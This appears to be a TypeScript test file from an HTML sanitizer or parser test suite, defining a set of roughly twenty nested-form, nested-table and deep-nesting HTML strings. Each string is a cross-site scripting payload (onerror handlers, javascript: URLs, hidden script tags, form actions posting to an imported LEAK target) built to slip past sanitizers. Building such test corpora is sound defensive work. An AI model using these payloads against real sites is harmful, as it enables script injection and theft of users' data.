import { LEAK, RUN, type Family } from './payload'

const many = (text: string, times: number) => text.repeat(times)

export const nesting: Family = {
  name: 'nested forms and tables',
  pages: [
    `<form id=a><form id=b><input name=x></form><img src=x onerror="${RUN}"></form>`,
    `<form><div></form><form><input type=submit formaction="${LEAK}"></div>`,
    `<form action="${LEAK}"><input type=submit></form>`,
    `<form action="${LEAK}" id=f></form><button form=f>x</button>`,
    `<form action="${LEAK}"><input type=image src=/api/icons/react></form>`,
    `<form method=dialog><button>x</button></form>`,
    `<table><form><tr><td><form><img src=x onerror="${RUN}"></table>`,
    `<table><tr><td><table><tr></table><script>${RUN}</script></td></table>`,
    `<table><caption><script>${RUN}</script></caption></table>`,
    `<table><colgroup><script>${RUN}</script></colgroup></table>`,
    `<table><img src=x onerror="${RUN}"><tr><td>x</table>`,
    `<button><button onclick="${RUN}">x</button></button>`,
    `<a href=#><a href="javascript:${RUN}">x</a></a>`,
    `<label for=x><input id=x onfocus="${RUN}" autofocus></label>`,
    `<fieldset><legend><object data="javascript:${RUN}"></legend></fieldset>`,
    `${many('<div>', 250)}<script>${RUN}</script>`,
    `${many('<div>', 600)}<script>${RUN}</script>`,
    `${many('<table><tr><td>', 80)}<img src=x onerror="${RUN}">`,
    `<p>${Array.from({ length: 200 }, (_, at) => `<b class=${at}>`).join('')}</p>${many('<p>x</p>', 500)}<script>${RUN}</script>`,
    `${many('<b>', 120)}${many('</b><i>', 120)}<img src=x onerror="${RUN}">`,
  ],
}
